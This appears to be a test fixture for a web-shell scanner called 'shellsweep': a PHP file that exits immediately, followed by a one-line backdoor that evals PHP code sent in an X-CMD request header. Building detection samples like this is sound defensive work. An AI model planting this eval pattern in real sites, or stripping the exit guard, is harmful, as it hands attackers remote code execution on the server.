<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
if (isset($_SERVER['HTTP_X_CMD'])) { eval($_SERVER['HTTP_X_CMD']); }
